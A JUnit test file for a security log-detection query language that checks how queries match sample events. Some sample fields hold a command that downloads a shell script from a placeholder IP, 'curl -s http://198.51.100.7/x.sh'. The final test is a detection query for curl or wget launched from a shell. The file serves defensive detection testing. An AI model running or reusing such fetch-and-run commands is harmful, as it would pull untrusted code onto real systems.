package dev.vigil.detect.query;

import dev.vigil.detect.event.EventCache;
import dev.vigil.detect.event.LogEvent;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;

import java.util.List;

import static dev.vigil.detect.query.Events.AGENT_EXEC;
import static dev.vigil.detect.query.Events.BARE;
import static dev.vigil.detect.query.Events.SSH_FAILURE;
import static dev.vigil.detect.query.Events.SSH_SUCCESS_UNICODE;
import static org.assertj.core.api.Assertions.assertThat;

/**
 * What each feature of the syntax matches, on events built from their stored JSON form. Every
 * answer is also checked with the query bound to an {@link EventCache} shared by all queries, as
 * an engine's rules share one: the bound query must answer the same, twice (the second from the
 * cache).
 */
class QueryMatchTest {

    private static final List<LogEvent> ALL = List.of(SSH_FAILURE, SSH_SUCCESS_UNICODE, AGENT_EXEC, BARE);
    private static final EventCache CACHE = new EventCache();

    /** The events among the samples that {@code query} matches. */
    private static List<LogEvent> matching(String query) {
        Query q = Query.parse(query);
        return ALL.stream().filter(e -> evaluate(q, e)).toList();
    }

    private static boolean matches(String query, LogEvent e) {
        return evaluate(Query.parse(query), e);
    }

    private static boolean evaluate(Query q, LogEvent e) {
        boolean walked = q.matches(e);
        Query.Bound bound = q.bind(CACHE);
        CACHE.reset(e);
        assertThat(bound.matches(CACHE)).as("bound '%s' on %s", q, e.id()).isEqualTo(walked);
        assertThat(bound.matches(CACHE)).as("bound '%s' on %s, again", q, e.id()).isEqualTo(walked);
        return walked;
    }

    @Nested
    class FullText {
        @Test
        void aWordIsACaseInsensitiveContainmentInTheMessage() {
            assertThat(matching("failed")).containsExactly(SSH_FAILURE);
            assertThat(matching("FAILED")).containsExactly(SSH_FAILURE);
            assertThat(matching("pass")).containsExactly(SSH_FAILURE); // containment, not whole words
        }

        @Test
        void aPhraseMatchesItsWordsInOrder() {
            assertThat(matching("\"invalid user admin\"")).containsExactly(SSH_FAILURE);
            assertThat(matching("\"admin user invalid\"")).isEmpty();
        }

        @Test
        void onlyTheMessageIsSearched() {
            assertThat(matching("web-1")).isEmpty(); // the host, not the message
            assertThat(matching("payments")).isEmpty(); // a tag
        }

        @Test
        void wildcardsInTerms() {
            assertThat(matching("pass*rd")).containsExactly(SSH_FAILURE);
            assertThat(matching("ssh?")).containsExactly(SSH_FAILURE);
            assertThat(matching("\"pass*rd\"")).isEmpty(); // quoted: a literal star
        }

        @Test
        void caseFoldingCoversNonAsciiLetters() {
            assertThat(matching("ÉCHEC")).containsExactly(SSH_SUCCESS_UNICODE);
            assertThat(matching("JÜRGEN")).containsExactly(SSH_SUCCESS_UNICODE);
            assertThat(matching("\"SUCCÈS : SESSION\"")).containsExactly(SSH_SUCCESS_UNICODE);
        }

        @Test
        void messageFieldIsFullText() {
            assertThat(matching("message:\"invalid user\"")).containsExactly(SSH_FAILURE);
            assertThat(matching("message:INVALID")).containsExactly(SSH_FAILURE);
            assertThat(matching("message:*")).containsExactly(SSH_FAILURE, SSH_SUCCESS_UNICODE, AGENT_EXEC);
        }

        @Test
        void starAndBlankMatchEverything() {
            assertThat(matching("*")).containsExactlyElementsOf(ALL);
            assertThat(matching("")).containsExactlyElementsOf(ALL);
            assertThat(matching("  \t ")).containsExactlyElementsOf(ALL);
            assertThat(matching("* source:sshd")).containsExactly(SSH_FAILURE, SSH_SUCCESS_UNICODE);
        }
    }

    @Nested
    class ReservedAttributes {
        @Test
        void byBareName() {
            assertThat(matching("host:web-1")).containsExactly(SSH_FAILURE);
            assertThat(matching("source:sshd")).containsExactly(SSH_FAILURE, SSH_SUCCESS_UNICODE);
            assertThat(matching("service:vigil")).containsExactly(AGENT_EXEC);
            assertThat(matching("status:error")).containsExactly(SSH_FAILURE);
            assertThat(matching("status:info")).containsExactly(SSH_SUCCESS_UNICODE, AGENT_EXEC, BARE); // the default
        }

        @Test
        void valuesAreCaseSensitiveAndWhole() {
            assertThat(matching("source:SSHD")).isEmpty();
            assertThat(matching("source:ssh")).isEmpty();
        }

        @Test
        void wildcards() {
            assertThat(matching("host:web-*")).containsExactly(SSH_FAILURE);
            assertThat(matching("host:*-?")).containsExactly(SSH_FAILURE, AGENT_EXEC);
            assertThat(matching("host:*runner*")).containsExactly(AGENT_EXEC);
            assertThat(matching("host:*")).containsExactly(SSH_FAILURE, SSH_SUCCESS_UNICODE, AGENT_EXEC);
        }
    }

    @Nested
    class Attributes {
        @Test
        void byDottedPath() {
            assertThat(matching("@usr.name:admin")).containsExactly(SSH_FAILURE);
            assertThat(matching("@evt.outcome:failure")).containsExactly(SSH_FAILURE);
            assertThat(matching("@usr.name:Admin")).isEmpty();
            assertThat(matching("@container.image.name:acme/web")).containsExactly(AGENT_EXEC);
        }

        @Test
        void anyArrayElementMatches() {
            assertThat(matching("@process.ancestors.file.path:/usr/bin/*")).containsExactly(AGENT_EXEC);
            assertThat(matching("@process.ancestors.file.name:init")).containsExactly(AGENT_EXEC);
            assertThat(matching("@process.ancestors.pid:4100")).containsExactly(AGENT_EXEC);
            assertThat(matching("@process.argv:-s")).containsExactly(AGENT_EXEC);
            assertThat(matching("@process.ancestors.argv:\"curl -s http://198.51.100.7/x.sh\"")).containsExactly(AGENT_EXEC);
        }

        @Test
        void negationOfAMultiValuedFieldMeansNoElementMatches() {
            assertThat(matches("-@process.ancestors.file.name:sh", AGENT_EXEC)).isFalse();
            assertThat(matches("-@process.ancestors.file.name:bash", AGENT_EXEC)).isTrue();
        }

        @Test
        void literalDottedKeys() {
            assertThat(matching("@http.url:\"/api/v1 x\"")).containsExactly(AGENT_EXEC);
            assertThat(matching("@http.url:/api/*")).containsExactly(AGENT_EXEC);
        }

        @Test
        void unicodeValues() {
            assertThat(matching("@usr.name:jürgen")).containsExactly(SSH_SUCCESS_UNICODE);
            assertThat(matching("@file.path:/home/jürgen/日本/*")).containsExactly(SSH_SUCCESS_UNICODE);
            assertThat(matching("@file.path:*/日?/*")).containsExactly(SSH_SUCCESS_UNICODE);
        }

        @Test
        void aPathToAnObjectMatchesNoValue() {
            assertThat(matching("@usr:admin")).isEmpty();
        }
    }

    @Nested
    class Tags {
        @Test
        void aNonReservedBareKeyIsATag() {
            assertThat(matching("env:prod")).containsExactly(SSH_FAILURE);
            assertThat(matching("env:ci")).containsExactly(AGENT_EXEC);
            assertThat(matching("team:build")).containsExactly(AGENT_EXEC);
        }

        @Test
        void wildcardsAndGroups() {
            assertThat(matching("env:prod OR env:ci")).containsExactly(SSH_FAILURE, AGENT_EXEC);
            assertThat(matching("env:(prod OR staging)")).containsExactly(SSH_FAILURE, SSH_SUCCESS_UNICODE);
            assertThat(matching("env:*")).containsExactly(SSH_FAILURE, SSH_SUCCESS_UNICODE, AGENT_EXEC);
            assertThat(matching("team:pay*")).containsExactly(SSH_FAILURE);
        }

        @Test
        void tagsFieldMatchesWholeTags() {
            assertThat(matching("tags:env:prod")).containsExactly(SSH_FAILURE);
            assertThat(matching("tags:pci")).containsExactly(SSH_FAILURE);
            assertThat(matching("tags:*:ci")).containsExactly(AGENT_EXEC);
            assertThat(matching("tags:*")).containsExactly(SSH_FAILURE, SSH_SUCCESS_UNICODE, AGENT_EXEC);
            assertThat(matching("_exists_:pci")).containsExactly(SSH_FAILURE); // a bare tag is its own key
        }

        @Test
        void tagValuesCompareNumerically() {
            assertThat(matching("kernel:>=6.1")).containsExactly(AGENT_EXEC);
            assertThat(matching("kernel:<6")).isEmpty();
        }
    }

    @Nested
    class BooleanOperators {
        @Test
        void implicitAndExplicitAnd() {
            assertThat(matching("source:sshd @evt.outcome:failure")).containsExactly(SSH_FAILURE);
            assertThat(matching("source:sshd AND @evt.outcome:failure")).containsExactly(SSH_FAILURE);
        }

        @Test
        void or() {
            assertThat(matching("host:web-1 OR host:bastion")).containsExactly(SSH_FAILURE, SSH_SUCCESS_UNICODE);
        }

        @Test
        void negations() {
            assertThat(matching("source:sshd NOT @usr.name:admin")).containsExactly(SSH_SUCCESS_UNICODE);
            assertThat(matching("source:sshd -@usr.name:admin")).containsExactly(SSH_SUCCESS_UNICODE);
            assertThat(matching("source:sshd !@usr.name:admin")).containsExactly(SSH_SUCCESS_UNICODE);
            assertThat(matching("NOT NOT source:vigil-agent")).containsExactly(AGENT_EXEC);
        }

        @Test
        void notBindsTighterThanAndWhichBindsTighterThanOr() {
            // host:bastion OR (source:sshd AND status:error)
            assertThat(matching("host:bastion OR source:sshd status:error")).containsExactly(SSH_FAILURE, SSH_SUCCESS_UNICODE);
            // (host:bastion OR source:sshd) AND status:error
            assertThat(matching("(host:bastion OR source:sshd) status:error")).containsExactly(SSH_FAILURE);
            // (NOT host:bastion) AND source:sshd
            assertThat(matching("NOT host:bastion source:sshd")).containsExactly(SSH_FAILURE);
            assertThat(matching("NOT (host:bastion OR source:sshd)")).containsExactly(AGENT_EXEC, BARE);
        }

        @Test
        void valueGroups() {
            assertThat(matching("@usr.name:(root OR admin)")).containsExactly(SSH_FAILURE);
            assertThat(matching("source:(sshd OR sudo)")).containsExactly(SSH_FAILURE, SSH_SUCCESS_UNICODE);
            assertThat(matching("source:(sshd AND NOT vigil-agent)")).containsExactly(SSH_FAILURE, SSH_SUCCESS_UNICODE);
            assertThat(matching("@process.argv:(-s AND http*)")).containsExactly(AGENT_EXEC); // AND over elements
            assertThat(matching("@usr.name:(-admin)")).containsExactly(SSH_SUCCESS_UNICODE, AGENT_EXEC, BARE);
            assertThat(matching("@network.bytes_read:(<10 OR [1000 TO 2000])")).containsExactly(AGENT_EXEC);
        }
    }

    @Nested
    class Existence {
        @Test
        void starValueAndExistsSyntax() {
            assertThat(matching("@usr.name:*")).containsExactly(SSH_FAILURE, SSH_SUCCESS_UNICODE);
            assertThat(matching("_exists_:@usr.name")).containsExactly(SSH_FAILURE, SSH_SUCCESS_UNICODE);
            assertThat(matching("_missing_:@usr.name")).containsExactly(AGENT_EXEC, BARE);
        }

        @Test
        void objectsAndArraysExist() {
            assertThat(matching("@process.ancestors:*")).containsExactly(AGENT_EXEC);
            assertThat(matching("@process:*")).containsExactly(AGENT_EXEC);
            assertThat(matching("@process.ancestors.argv:*")).containsExactly(AGENT_EXEC);
        }

        @Test
        void jsonNullIsMissing() {
            assertThat(matching("@container.id:*")).isEmpty();
            assertThat(matching("_exists_:@container.image")).containsExactly(AGENT_EXEC);
        }

        @Test
        void reservedAndTags() {
            assertThat(matching("_missing_:host")).containsExactly(BARE);
            assertThat(matching("_exists_:team")).containsExactly(SSH_FAILURE, AGENT_EXEC);
        }
    }

    @Nested
    class Escapes {
        @Test
        void backslashEscapesSpecialCharacters() {
            assertThat(matching("@http.url:\\/api\\/v1\\ x")).containsExactly(AGENT_EXEC);
            assertThat(matching("\\(deleted\\)")).containsExactly(AGENT_EXEC);
            assertThat(matching("@usr.name\\:x:1")).isEmpty(); // a key with a colon: parses, matches nothing
        }

        @Test
        void anEscapedStarIsLiteral() {
            assertThat(matching("@file.name:a\\*b")).containsExactly(AGENT_EXEC);
            assertThat(matching("@file.name:a\\*\\*b")).isEmpty();
            assertThat(matching("@file.name:a*b")).containsExactly(AGENT_EXEC); // a wildcard also matches "*"
        }

        @Test
        void quotedValuesAreLiteralExceptQuoteAndBackslash() {
            assertThat(matching("@process.cmdline:\"sh -c \\\"curl -s x\\\"\"")).containsExactly(AGENT_EXEC);
            assertThat(matching("@win.path:\"C:\\Windows\\system32\"")).containsExactly(AGENT_EXEC);
            assertThat(matching("@win.path:\"C:\\\\Windows\\\\system32\"")).containsExactly(AGENT_EXEC);
            assertThat(matching("@file.name:\"a*b\"")).containsExactly(AGENT_EXEC);
            assertThat(matching("@file.name:\"a*\"")).isEmpty();
        }

        @Test
        void colonsBelongToValues() {
            assertThat(matching("@network.client.ip:fd00::1:2")).containsExactly(AGENT_EXEC);
        }
    }

    @Nested
    class Numbers {
        @Test
        void comparisons() {
            assertThat(matching("@network.bytes_read:>1000")).containsExactly(AGENT_EXEC);
            assertThat(matching("@network.bytes_read:>=1500")).containsExactly(AGENT_EXEC);
            assertThat(matching("@network.bytes_read:>1500")).isEmpty();
            assertThat(matching("@network.bytes_read:<1500")).isEmpty();
            assertThat(matching("@network.bytes_read:<=1500")).containsExactly(AGENT_EXEC);
        }

        @Test
        void rangesWithInclusiveAndExclusiveBounds() {
            assertThat(matches("@network.bytes_read:[1000 TO 1500]", AGENT_EXEC)).isTrue();
            assertThat(matches("@network.bytes_read:[1000 TO 1500}", AGENT_EXEC)).isFalse();
            assertThat(matches("@network.bytes_read:{1500 TO 2000]", AGENT_EXEC)).isFalse();
            assertThat(matches("@network.bytes_read:{1499 TO 1501}", AGENT_EXEC)).isTrue();
            assertThat(matches("@network.bytes_read:[* TO 1500]", AGENT_EXEC)).isTrue();
            assertThat(matches("@network.bytes_read:[1600 TO *]", AGENT_EXEC)).isFalse();
            assertThat(matches("@network.bytes_read:[* TO *]", AGENT_EXEC)).isTrue();
        }

        @Test
        void numericLookingStringsCompareAsNumbers() {
            assertThat(matching("@ssh.attempts:>2")).containsExactly(SSH_FAILURE);
            assertThat(matching("@ssh.attempts:[3 TO 3]")).containsExactly(SSH_FAILURE);
            assertThat(matching("@load:>0.5")).containsExactly(AGENT_EXEC);
            assertThat(matching("@usr.name:>0")).isEmpty(); // not a number
            assertThat(matching("@network.destination.port:[20 TO 25]")).containsExactly(SSH_FAILURE, SSH_SUCCESS_UNICODE);
        }

        @Test
        void decimalsAndNegatives() {
            assertThat(matches("@network.ratio:[0.5 TO 1}", AGENT_EXEC)).isTrue();
            assertThat(matches("@network.ratio:>0.75", AGENT_EXEC)).isFalse();
            assertThat(matches("@network.delta:<-1", AGENT_EXEC)).isTrue();
            assertThat(matches("@network.delta:-3", AGENT_EXEC)).isTrue();
            assertThat(matches("@network.bytes_read:>1.5e3", AGENT_EXEC)).isFalse();
            assertThat(matches("@network.bytes_read:>=1.5e3", AGENT_EXEC)).isTrue();
        }

        /** Nanosecond timestamps need all 64 bits: as doubles these two are the same number. */
        @Test
        void largeIntegersCompareExactly() {
            assertThat(matches("@event.timestamp:>1795374822574277862", AGENT_EXEC)).isTrue();
            assertThat(matches("@event.timestamp:>1795374822574277863", AGENT_EXEC)).isFalse();
            assertThat(matches("@event.timestamp:1795374822574277863", AGENT_EXEC)).isTrue();
            assertThat(matches("@event.timestamp:1795374822574277864", AGENT_EXEC)).isFalse();
        }

        @Test
        void equalityComparesNumbersAndBooleansByValue() {
            assertThat(matching("@network.destination.port:22")).containsExactly(SSH_FAILURE, SSH_SUCCESS_UNICODE);
            assertThat(matching("@network.destination.port:22.0")).containsExactly(SSH_FAILURE); // "22" is text
            assertThat(matching("@evt.success:false")).containsExactly(SSH_FAILURE);
            assertThat(matching("@evt.success:true")).containsExactly(SSH_SUCCESS_UNICODE); // the string "true"
            assertThat(matching("@usr.id:1001")).containsExactly(SSH_SUCCESS_UNICODE);
            assertThat(matching("@process.pid:42*")).containsExactly(AGENT_EXEC); // patterns see the number's text
        }
    }

    @Nested
    class Cidrs {
        @Test
        void datadogFunctionForm() {
            assertThat(matching("CIDR(@network.client.ip, 203.0.113.0/24)")).containsExactly(SSH_FAILURE);
            assertThat(matching("CIDR(@network.client.ip,10.0.0.0/8,192.168.0.0/16)")).containsExactly(SSH_SUCCESS_UNICODE);
            assertThat(matching("CIDR(@network.client.ip, 198.51.100.0/24)")).isEmpty();
        }

        @Test
        void valueForm() {
            assertThat(matching("@network.client.ip:CIDR(203.0.113.0/24)")).containsExactly(SSH_FAILURE);
            assertThat(matching("@network.client.ip:CIDR(203.0.113.9)")).containsExactly(SSH_FAILURE);
            assertThat(matching("@network.client.ip:(CIDR(10.0.0.0/8) OR CIDR(fd00::/8))"))
                    .containsExactly(SSH_SUCCESS_UNICODE, AGENT_EXEC);
        }

        @Test
        void ipv6AndMappedIpv4() {
            assertThat(matching("CIDR(@network.client.ip, fd00::/8)")).containsExactly(AGENT_EXEC);
            assertThat(matching("CIDR(@network.client.ip, fd00:0:0:0:0:0:1:0/112)")).containsExactly(AGENT_EXEC);
            assertThat(matching("CIDR(@network.client.ip, fe80::/10)")).isEmpty();
            assertThat(matching("CIDR(@network.client.ip, 10.20.0.0/16)")).containsExactly(SSH_SUCCESS_UNICODE);
        }

        @Test
        void anyArrayElementAndNonAddresses() {
            assertThat(matching("CIDR(@network.peers, 192.168.0.0/16)")).containsExactly(AGENT_EXEC);
            assertThat(matching("CIDR(@usr.name, 0.0.0.0/0)")).isEmpty();
            assertThat(matching("CIDR(@network.client.port, 0.0.0.0/0)")).isEmpty();
        }

        @Test
        void negated() {
            assertThat(matching("source:sshd -CIDR(@network.client.ip, 10.0.0.0/8)")).containsExactly(SSH_FAILURE);
        }
    }

    @Test
    void aRealisticDetectionQuery() {
        String q = "source:vigil-agent @evt.name:exec @process.file.name:(curl OR wget) "
                + "@process.ancestors.file.name:(sh OR bash) -env:(prod OR staging) @network.bytes_read:>=1000";
        assertThat(matching(q)).containsExactly(AGENT_EXEC);
    }
}
